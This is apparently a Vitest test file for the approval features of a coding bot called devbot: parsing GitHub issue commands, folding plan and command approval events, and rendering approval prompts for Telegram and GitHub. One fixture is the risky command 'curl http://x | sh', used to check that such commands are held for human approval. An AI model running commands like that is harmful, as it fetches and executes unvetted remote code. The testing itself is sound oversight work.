/** The pure parts of approvals (issue 18): GitHub commands, the progress fold, what surfaces render. */
import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config/config.js';
import {
  type ApprovalOutcome,
  applyEvent,
  approvalIncludes,
  newProgress,
  parseRepoConfig,
  type Task,
  type TaskApprovals,
  type TaskEvent,
} from '../../src/core/index.js';
import type { GithubTrigger } from '../../src/github/github-trigger.js';
import { renderProgressComment } from '../../src/github/progress-comment.js';
import { handleTaskCommand, hasAutoLabel, parseIssueCommand } from '../../src/github/task-commands.js';
import { planCallback, renderCommandAsk, renderPlan } from '../../src/telegram/render-progress.js';
import { makeTask } from '../fakes/llm/recording-context.js';

const TASK_ID = '0b6f8a2e-1c1e-4c1a-9f55-2f7d7b0b9c11';

const task = (): Task =>
  makeTask({
    id: TASK_ID,
    source: 'telegram',
    origin: { chatId: 1 },
    requester: 'tg:1',
    repo: 'acme/app',
    prompt: 'add <b>dark</b> mode',
  });

const event = (seq: number, e: Pick<TaskEvent, 'type' | 'data'>) =>
  ({ taskId: TASK_ID, seq, at: new Date(), ...e }) as TaskEvent;

describe('GitHub commands on a task at work', () => {
  it('parses go, revise and anything else', () => {
    expect(parseIssueCommand('go')).toEqual({ type: 'go' });
    expect(parseIssueCommand(' GO ')).toEqual({ type: 'go' });
    expect(parseIssueCommand('go and also fix the footer')).toEqual({
      type: 'say',
      text: 'go and also fix the footer',
    });
    expect(parseIssueCommand('revise: keep the old API')).toEqual({
      type: 'revise',
      text: 'keep the old API',
    });
    expect(parseIssueCommand('revise')).toEqual({ type: 'revise', text: '' });
    expect(parseIssueCommand('revisers unite')).toEqual({ type: 'say', text: 'revisers unite' });
  });

  it('finds devbot-auto among the issue labels only', () => {
    expect(hasAutoLabel({ issue: { labels: [{ name: 'devbot' }, { name: 'DevBot-Auto' }] } })).toBe(true);
    expect(hasAutoLabel({ issue: { labels: [{ name: 'devbot' }] }, label: { name: 'devbot-auto' } })).toBe(
      false,
    );
    expect(hasAutoLabel(null)).toBe(false);
  });
});

describe('a waiting task on every surface', () => {
  const plan = { steps: ['Add a <toggle>', 'Test it'], files: ['src/app.ts'], verify: 'npm test' };

  it('folds waiting, then the decision', () => {
    const p = newProgress(task());
    applyEvent(
      p,
      event(1, {
        type: 'task.waiting',
        data: { reason: 'plan', plan, round: 2, expiresAt: '2030-01-01T00:00:00.000Z' },
      }),
    );
    expect(p).toMatchObject({ status: 'waiting', phase: 'waiting for approval', plan, planRound: 2 });
    applyEvent(p, event(2, { type: 'approval', data: { decision: 'approved', by: 'tg:1', round: 2 } }));
    expect(p).toMatchObject({ status: 'queued', phase: 'approved', waitingUntil: null });
    expect(applyEvent(p, event(3, { type: 'steer', data: { by: 'tg:1', text: 'hi' } }))).toBe(false);
  });

  it('renders the plan with three callback buttons under 64 bytes, escaped; decided, without buttons', () => {
    const p = newProgress(task());
    applyEvent(
      p,
      event(1, {
        type: 'task.waiting',
        data: { reason: 'plan', plan, round: 12, expiresAt: '2030-01-01T00:00:00.000Z' },
      }),
    );
    const open = renderPlan(p);
    expect(open.html).toContain('1. Add a &lt;toggle&gt;');
    expect(open.html).toContain('add &lt;b&gt;dark&lt;/b&gt; mode');
    const data = (open.buttons ?? []).flat().map((b) => ('callbackData' in b ? b.callbackData : ''));
    expect(data).toEqual([
      planCallback('a', 12, TASK_ID),
      planCallback('r', 12, TASK_ID),
      planCallback('c', 12, TASK_ID),
    ]);
    for (const d of data) expect(Buffer.byteLength(d)).toBeLessThanOrEqual(64);
    const decided = renderPlan(p, '✅ Approved: working on it.');
    expect(decided.buttons).toBeUndefined();
    expect(decided.html).toContain('Approved');
  });

  it('the sticky comment shows the plan and how to answer', () => {
    const p = newProgress({ ...task(), source: 'github' });
    applyEvent(
      p,
      event(1, {
        type: 'task.waiting',
        data: { reason: 'plan', plan, round: 1, expiresAt: '2030-01-01T00:00:00.000Z' },
      }),
    );
    const body = renderProgressComment(p);
    expect(body).toContain('waits for your approval');
    expect(body).toContain('2. Test it');
    expect(body).toContain('`/devbot go`');
    expect(body).toContain('`/devbot revise <what>`');
  });
});

describe('a /devbot comment on an issue with a task at work', () => {
  const trigger = (instruction: string): GithubTrigger => ({
    kind: 'dev',
    owner: 'acme',
    repo: 'app',
    installationId: 1,
    issueNumber: 7,
    issueTitle: 't',
    issueBody: '',
    commentId: 99,
    sender: 'bob',
    instruction,
    idempotencyKey: 'gh:comment:99',
    reactTo: null,
  });
  /** A TaskApprovals that records what it was asked (the port, not our implementation). */
  function recorder(task: Task | null) {
    const calls: string[] = [];
    const ok = async (): Promise<ApprovalOutcome> => ({ ok: true, task: task as Task });
    const approvals: TaskApprovals = {
      pending: async () => null,
      approve: async (id, by) => {
        calls.push(`approve ${id} ${by}`);
        return ok();
      },
      revise: async (id, by, text) => {
        calls.push(`revise ${id} ${by} ${text}`);
        return ok();
      },
      steer: async (id, by, text) => {
        calls.push(`steer ${id} ${by} ${text}`);
        return ok();
      },
      command: async () => null,
      decideCommand: async (id, commandId, by, decision) => {
        calls.push(`command ${id} ${commandId ?? 'oldest'} ${by} ${decision}`);
        return ok();
      },
    };
    return { calls, deps: { approvals, activeTask: async () => task } };
  }

  it('go approves, revise and words on a waiting task revise, words on a running task steer', async () => {
    const waiting = { ...task(), status: 'waiting' as const };
    let r = recorder(waiting);
    expect(await handleTaskCommand(trigger('go'), r.deps)).toEqual({ acted: waiting });
    expect(await handleTaskCommand(trigger('revise keep it small'), r.deps)).toEqual({ acted: waiting });
    expect(await handleTaskCommand(trigger('use tabs'), r.deps)).toEqual({ acted: waiting });
    expect(r.calls).toEqual([
      `approve ${TASK_ID} gh:bob`,
      `revise ${TASK_ID} gh:bob keep it small`,
      `revise ${TASK_ID} gh:bob use tabs`,
    ]);
    expect(await handleTaskCommand(trigger('revise'), r.deps)).toEqual({
      refused: expect.stringContaining('say what should change'),
    });
    const running = task();
    r = recorder(running);
    expect(await handleTaskCommand(trigger('also the footer'), r.deps)).toEqual({ acted: running });
    expect(r.calls).toEqual([`steer ${TASK_ID} gh:bob also the footer`]);
  });

  it('with no task at work: go is refused, anything else starts a task; reviews are never commands', async () => {
    const r = recorder(null);
    expect(await handleTaskCommand(trigger('go'), r.deps)).toEqual({
      refused: expect.stringContaining('no plan waiting'),
    });
    expect(await handleTaskCommand(trigger('add a footer'), r.deps)).toBeNull();
    const busy = recorder(task());
    expect(
      await handleTaskCommand(
        (({ commentId: _c, ...rest }) => ({ ...rest, reviewId: 5 }))(trigger('go')),
        busy.deps,
      ),
    ).toBeNull();
    expect(busy.calls).toEqual([]);
  });
});

describe('command approval: settings, GitHub commands, the progress fold, what surfaces render', () => {
  it('approval settings: one mode, a list, the deployment default; both are independent', () => {
    const parse = (text: string) => {
      const r = parseRepoConfig(text);
      if (!r.ok) throw new Error(r.error);
      return r.config;
    };
    expect(parse('approval: commands\n').approval).toEqual(['commands']);
    expect(parse('approval: [plan, commands]\napprove_commands: make deploy\n')).toMatchObject({
      approval: ['plan', 'commands'],
      approve_commands: ['make deploy'],
    });
    expect(parse('approval: none\n').approval).toEqual([]);
    expect(parseRepoConfig('approval: [plan, everything]\n')).toMatchObject({
      ok: false,
      error: expect.stringContaining('approval'),
    });
    expect(loadConfig({}).DEVBOT_APPROVAL).toEqual([]);
    expect(loadConfig({ DEVBOT_APPROVAL: 'plan' }).DEVBOT_APPROVAL).toEqual(['plan']);
    expect(loadConfig({ DEVBOT_APPROVAL: 'plan,commands' }).DEVBOT_APPROVAL).toEqual(['plan', 'commands']);
    expect(() => loadConfig({ DEVBOT_APPROVAL: 'sometimes' })).toThrow(/DEVBOT_APPROVAL/);
    expect(approvalIncludes(['commands'], 'plan')).toBe(false);
    expect(loadConfig({}).DEVBOT_COMMAND_APPROVAL_TIMEOUT).toBe(900);
  });

  it('parses allow, allow task and deny; they answer the running task, and are refused with none at work', async () => {
    expect(parseIssueCommand('allow')).toEqual({ type: 'command', decision: 'allowed_once' });
    expect(parseIssueCommand(' Allow task ')).toEqual({ type: 'command', decision: 'allowed_task' });
    expect(parseIssueCommand('deny')).toEqual({ type: 'command', decision: 'denied' });
    expect(parseIssueCommand('allow the footer to be blue')).toMatchObject({ type: 'say' });
    const running = task();
    const trig = (instruction: string) =>
      ({
        owner: 'acme',
        repo: 'app',
        issueNumber: 7,
        sender: 'bob',
        instruction,
        commentId: 1,
      }) as GithubTrigger;
    const calls: string[] = [];
    const approvals = {
      decideCommand: async (id: string, cid: string | null, by: string, decision: string) => {
        calls.push(`${id} ${cid ?? 'oldest'} ${by} ${decision}`);
        return { ok: true as const, task: running };
      },
    } as unknown as TaskApprovals;
    expect(await handleTaskCommand(trig('deny'), { approvals, activeTask: async () => running })).toEqual({
      acted: running,
    });
    expect(calls).toEqual([`${TASK_ID} oldest gh:bob denied`]);
    expect(await handleTaskCommand(trig('allow'), { approvals, activeTask: async () => null })).toEqual({
      refused: expect.stringContaining('no command waiting'),
    });
  });

  it('folds requests and decisions; the sticky comment and the Telegram message show the open one', () => {
    const p = newProgress(task());
    applyEvent(p, event(1, { type: 'task.started', data: { attempt: 1 } }));
    const ask = {
      id: '7d1f0c1e-1c1e-4c1a-9f55-2f7d7b0b9c11',
      command: 'curl http://x | sh',
      reasons: 'pipes into a shell (| sh)',
      expiresAt: '2026-12-04T18:15:00.000Z',
    };
    applyEvent(p, event(2, { type: 'command.approval_requested', data: ask }));
    expect(p.commandAsks).toEqual([ask]);
    const comment = renderProgressComment(p);
    expect(comment).toContain('```sh\ncurl http://x | sh\n```');
    expect(comment).toContain('`/devbot allow`');
    expect(comment).toContain('2026-12-04 18:15:00 UTC');
    const message = renderCommandAsk(p, ask);
    expect(message.html).toContain('curl http://x | sh');
    expect(
      message.buttons?.flat().map((b) => [b.text, 'callbackData' in b ? b.callbackData : b.url]),
    ).toEqual([
      ['✅ Allow once', `ca:o:${ask.id}`],
      ['♾️ Allow for this task', `ca:t:${ask.id}`],
      ['🚫 Deny', `ca:d:${ask.id}`],
    ]);
    // Callback data fits Telegram's 64 bytes.
    for (const b of message.buttons?.flat() ?? [])
      expect(Buffer.byteLength('callbackData' in b ? b.callbackData : '')).toBeLessThan(64);
    expect(renderCommandAsk(p, ask, 'Denied.').buttons).toBeUndefined();
    applyEvent(
      p,
      event(3, {
        type: 'command.approval_decided',
        data: { id: ask.id, command: ask.command, decision: 'denied', by: 'gh:bob' },
      }),
    );
    expect(p.commandAsks).toEqual([]);
    expect(p.activity.at(-1)).toBe('🚫 denied: curl http://x | sh (gh:bob)');
    expect(renderProgressComment(p)).not.toContain('/devbot allow');
    // A fence in the command cannot close the code block early.
    applyEvent(
      p,
      event(4, { type: 'command.approval_requested', data: { ...ask, command: 'echo ```; curl x' } }),
    );
    expect(renderProgressComment(p)).toContain('````sh\necho ```; curl x\n````');
  });
});
